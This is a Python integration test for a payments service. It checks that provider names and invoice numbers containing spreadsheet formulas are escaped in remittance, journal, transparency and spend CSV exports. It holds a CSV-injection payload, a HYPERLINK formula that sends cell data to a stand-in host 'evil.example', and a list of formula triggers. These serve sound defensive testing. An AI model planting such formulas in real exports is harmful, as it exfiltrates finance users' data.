"""Text that came from outside — a provider's name, an invoice number — never reaches an export as a
cell a spreadsheet would run: the remittance advice, the finance journal, the transparency list and
reporting's spend export, after a real payment run through payments' API.

The provider and its invoice arrive as agreements and invoicing would publish them; the run is
ad hoc and limited to this provider, so it touches no one else's invoices.
"""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from contracts import agreements, payee_accounts
from contracts.common import ServiceType
from tests.conftest import auth, eventually, unique, url
from tests.integration.payments.payments_helpers import (BANK_CHECKER, BANK_MAKER, account_number, approve_invoices,
                                                         approved, approved_and_exported, propose, send, wait_for_payee,
                                                         working_day_after)

pytestmark = pytest.mark.stack

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Remittance")'
NUMBER = "@SUM(A1:A9)"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula trigger and not a plain number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


async def test_text_from_outside_never_reaches_an_export_as_a_live_formula(http, stack, producer):
    payments = url("payments")
    provider_id, change = unique("PRV-FORMULA"), unique("BDC")
    await send(producer, agreements.ProviderRegistered(
        provider_id=provider_id, name=NAME, cqc_provider_id="1-" + account_number() + "77", cqc_location_ids=[],
        service_types=[ServiceType.HOME_CARE], self_billing=agreements.SelfBilling(in_place=False)))
    account = agreements.BankAccount(sort_code="200000", account_number=account_number(), account_name="FORMULA CARE")
    await send(producer, agreements.ProviderBankDetailsChanged(provider_id=provider_id, change_id=change),
               actor=BANK_MAKER)
    await send(producer, payee_accounts.PayeeBankDetailsEntered(provider_id=provider_id, change_id=change,
                                                                account_fingerprint=account.fingerprint()),
               actor=BANK_MAKER)
    await send(producer, agreements.ProviderBankDetailsVerified(provider_id=provider_id, change_id=change),
               actor=BANK_CHECKER)
    await send(producer, payee_accounts.PayeeBankDetailsVerified(provider_id=provider_id, change_id=change,
                                                                 bank_account=account), actor=BANK_CHECKER)
    await wait_for_payee(http, payments, provider_id, "verified")
    pay_date = working_day_after(7)
    invoice = approved(provider_id, 60_000, due=pay_date).model_copy(update={"number": NUMBER})
    await approve_invoices(producer, http, payments, invoice)

    run = await propose(http, payments, {"pay_date": pay_date, "kind": "ad_hoc", "providers": [provider_id]})
    exported = await approved_and_exported(http, payments, run["run_id"])
    exports = {}
    for name in ("journal", f"remittance/{provider_id}.csv"):
        got = await http.get(f"{payments}/payment-runs/{run['run_id']}/files/{name}", headers=auth("finance_officer"))
        assert got.status_code == 200, (name, exported)
        exports[name] = got.text
    transparency = await http.get(f"{payments}/reports/transparency", headers=auth("finance_officer"), params={
        "over": 500, "from": (pay_date - timedelta(days=31)).isoformat(), "to": pay_date.isoformat(), "format": "csv"})
    assert transparency.status_code == 200, transparency.text
    exports["transparency"] = transparency.text

    async def spend_by_provider() -> str | None:
        got = await http.get(f"{url('reporting')}/spend", headers=auth("finance_officer"), params={
            "group_by": "provider", "provider_id": provider_id, "period": "month", "format": "csv",
            "from": (invoice.received_on - timedelta(days=40)).isoformat(), "to": pay_date.isoformat()})
        # The invoice and the provider's name reach reporting on two topics, read by two consumers: the row
        # is labelled with the provider's id until the name is read. Wait for both.
        named = "evil.example" in got.text
        return got.text if got.status_code == 200 and provider_id in got.text and named else None
    exports["reporting spend"] = await eventually(spend_by_provider, timeout=30,
                                                  what="reporting's spend export to list the provider by name")

    # The hostile text is there, shown as text: the exports are not merely missing it.
    assert f"Invoice {NUMBER}" in exports[f"remittance/{provider_id}.csv"]
    assert "'" + NAME.replace('"', '""') in exports[f"remittance/{provider_id}.csv"]
    assert "'" + NAME.replace('"', '""') in exports["reporting spend"]
    assert "'" + NAME.replace('"', '""') in exports["transparency"]
    assert {name: live_cells(text) for name, text in exports.items() if live_cells(text)} == {}
